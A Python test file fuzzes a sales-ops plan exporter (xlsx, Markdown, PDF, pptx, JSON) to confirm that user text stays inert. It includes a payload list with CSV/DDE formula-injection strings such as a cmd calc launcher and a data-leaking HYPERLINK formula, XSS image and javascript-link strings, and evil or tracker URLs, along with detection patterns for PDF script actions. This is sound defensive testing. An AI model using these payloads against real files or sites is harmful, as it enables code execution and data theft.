"""Every plan writer in salesops/export (FORMATS of ``export_plan``) fed 10,000 fuzzed strings (catalogue G1-G5, I2).

The strings go where user text goes (workspace and plan name, action items and owners, sign-off names and
comments), 500 per example over 20 examples. Each file is then read back: no formula cell in the workbook, no live
link, image or HTML in the Markdown, no link or script action in the PDF, no hyperlink in the deck, the JSON giving
back exactly the strings that went in. A writer added to FORMATS is covered without touching this test.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import date

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine

from salesops.export.plan import FORMATS, export_plan
from salesops.plan.report import PlanReport, build_report
from salesops.store import workspaces as ws

PER_EXAMPLE, EXAMPLES = 500, 20  # 10,000 strings per writer
LINK_OR_IMAGE = re.compile(r"(?<!\\)\[[^\]\n]*(?<!\\)\]\(")
TAG = re.compile(r"(?<!\\)<[a-zA-Z/!?]")
BARE_URL = re.compile(r"(?<![\\\w])(?:https?|ftp|mailto|javascript)(?<!\\):(?!\\)|(?<!\\)www\.(?=\w)")


@pytest.fixture(scope="module")
def base_report(tmp_path_factory: pytest.TempPathFactory) -> PlanReport:
    """A real report of a workspace with a few deals (charts are not rendered: the text is what is fuzzed)."""
    from salesops.ingest.pipeline import ingest_paths
    from salesops.store import get_engine

    folder = tmp_path_factory.mktemp("fuzz")
    engine: Engine = get_engine(f"sqlite:///{folder / 'store.db'}")
    source = folder / "deals.csv"
    rows = [f"D{i},Co {i},Closed Won,{1000 + i},2024-{i % 12 + 1:02d}-15,Rep {i % 3}" for i in range(40)]
    source.write_text("Opportunity ID,Opportunity Name,Stage,Amount,Close Date,Opportunity Owner\n" + "\n".join(rows))
    ingest_paths(engine, "Fuzz", [source])
    with engine.connect() as conn:
        report = build_report(conn, ws.find(conn, "Fuzz") or 0, today=date(2025, 1, 1))
    engine.dispose()
    return report


def fuzzed_report(report: PlanReport, texts: list[str]) -> PlanReport:
    """``report`` with user text replaced by ``texts``: workspace name, action items and owners, sign-offs."""
    n = len(texts)
    actions = pd.DataFrame(
        {
            "area": ["technology"] * n,
            "action": texts,
            "owner": texts[::-1],
            "due": [date(2025, 2, 1)] * n,
            "status": ["open"] * n,
            "needs_signoff": [False] * n,
        }
    )
    signoffs = pd.DataFrame({"name": texts[:50], "role": texts[50:100], "signed_at": [pd.Timestamp("2025-01-02")] * 50,
                             "comment": texts[100:150]})  # fmt: skip
    return replace(report, workspace=texts[0], actions=actions, actions_stored=True, signoffs=signoffs)


def xlsx_formula_cells(data: bytes) -> int:
    """Formula cells anywhere in the workbook (the plan writes none of its own)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return sum(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def markdown_markup(text: str) -> list[str]:
    """Live links, images, HTML tags or bare URLs in a Markdown document."""
    return [m.group() for pattern in (LINK_OR_IMAGE, TAG, BARE_URL) for m in pattern.finditer(text)]


def check(kind: str, data: bytes, texts: list[str]) -> None:
    """The read-back check of one file type."""
    if kind == "xlsx":
        assert xlsx_formula_cells(data) == 0
    elif kind == "md":
        assert markdown_markup(data.decode("utf-8")) == []
    elif kind == "pdf":
        assert not re.search(rb"/URI|/JavaScript|/Launch|/SubmitForm|/GoToR", data)
    elif kind == "pptx":
        with zipfile.ZipFile(io.BytesIO(data)) as deck:
            xml = b"".join(deck.read(name) for name in deck.namelist() if name.endswith(".xml"))
        assert b"hlinkClick" not in xml
        assert b"hlinkHover" not in xml
    elif kind == "json":
        payload = json.dumps(json.loads(data), ensure_ascii=False)
        assert all(json.dumps(t, ensure_ascii=False)[1:-1] in payload for t in set(texts[: len(texts)]))
    else:  # a new writer: at least it must produce bytes for any text (its own check belongs here)
        assert isinstance(data, bytes)


TEXTS = st.lists(st.text(max_size=40), min_size=PER_EXAMPLE, max_size=PER_EXAMPLE)
PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2+3", "\t=1", "{=1+1}",
            "=== Attention ===", "<img src=x onerror=alert(1)>", '<a href="http://evil">x</a>',
            "[x](javascript:alert(1))", "![](https://tracker.example/p.png)", "https://evil.example",
            "www.evil.example", "S&P <b>500</b>", '<img src="http://canary.invalid/x.png"/>', "| a | b |",
            "# heading", "$x$ and $y$"]  # fmt: skip


def no_charts(monkeypatch: pytest.MonkeyPatch) -> None:
    """The PDF and the deck take their no-renderer path (the chart images hold no user text; kaleido is slow)."""

    def unavailable(_charts: object) -> list[bytes]:
        raise RuntimeError("no chart renderer in this test")

    for module in ("salesops.export.pdf", "salesops.export.pptx"):
        monkeypatch.setattr(f"{module}.render_png", unavailable)


@pytest.mark.parametrize("kind", FORMATS)
def test_known_payloads_stay_inert_in_every_writer(
    kind: str, base_report: PlanReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The catalogue's payloads, each in every user-text slot."""
    no_charts(monkeypatch)
    texts = (PAYLOADS * (PER_EXAMPLE // len(PAYLOADS) + 1))[:PER_EXAMPLE]
    check(kind, export_plan(fuzzed_report(base_report, texts), kind), texts)


@pytest.mark.parametrize("kind", FORMATS)
def test_ten_thousand_fuzzed_strings_through_each_writer(
    kind: str, base_report: PlanReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    """10,000 random strings per writer: zero formula cells, zero markup, JSON unchanged."""
    no_charts(monkeypatch)

    @settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(TEXTS)
    def run(texts: list[str]) -> None:
        check(kind, export_plan(fuzzed_report(base_report, texts), kind), texts)

    run()
